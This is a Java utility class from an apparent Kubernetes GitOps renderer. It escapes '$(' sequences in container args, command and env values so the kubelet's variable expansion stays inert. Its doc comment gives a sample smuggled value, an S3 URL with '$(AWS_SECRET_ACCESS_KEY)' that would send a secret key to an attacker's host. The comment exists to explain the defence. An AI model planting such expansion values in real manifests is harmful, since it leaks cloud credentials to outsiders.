package io.kubeai.gitops.render;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import java.util.List;

/**
 * Makes containers' args, command and env values inert to the kubelet's variable expansion. The kubelet
 * replaces {@code $(NAME)} in those strings with the container's variable NAME, which may come from a
 * Secret: a Model URL such as {@code s3://attacker/$(AWS_SECRET_ACCESS_KEY)/m} would send the key to the
 * attacker's server. Nothing the generator renders means to use expansion, so every string is written to
 * mean itself: {@code $(} becomes {@code $$(} and {@code $$} becomes {@code $$$$}, which the kubelet reads
 * back as the original text; any other {@code $} is left alone, as the kubelet leaves it.
 */
final class Inert {
    private static final List<String> CONTAINER_LISTS = List.of("containers", "initContainers", "ephemeralContainers");

    private Inert() {}

    /** Escapes every container of every pod template in {@code object}, wherever it is nested. */
    static void containers(JsonNode node) {
        if (node instanceof ObjectNode object) {
            object.fields().forEachRemaining(e -> {
                if (CONTAINER_LISTS.contains(e.getKey()) && e.getValue().isArray()) {
                    e.getValue().forEach(Inert::container);
                }
                containers(e.getValue());
            });
        } else if (node.isArray()) {
            node.forEach(Inert::containers);
        }
    }

    private static void container(JsonNode container) {
        strings(container.path("args"));
        strings(container.path("command"));
        for (JsonNode env : container.path("env")) {
            if (env instanceof ObjectNode variable && env.path("value").isTextual()) {
                variable.put("value", escape(env.path("value").textValue()));
            }
        }
    }

    private static void strings(JsonNode list) {
        if (list instanceof ArrayNode array) {
            for (int i = 0; i < array.size(); i++) {
                if (array.get(i).isTextual()) {
                    array.set(i, TextNode.valueOf(escape(array.get(i).textValue())));
                }
            }
        }
    }

    /** {@code text} written so that the kubelet's expansion gives {@code text} back. */
    static String escape(String text) {
        if (text.indexOf('$') < 0) {
            return text;
        }
        StringBuilder out = new StringBuilder(text.length() + 8);
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            out.append(c);
            if (c == '$' && i + 1 < text.length() && (text.charAt(i + 1) == '(' || text.charAt(i + 1) == '$')) {
                out.append('$');
            }
        }
        return out.toString();
    }
}
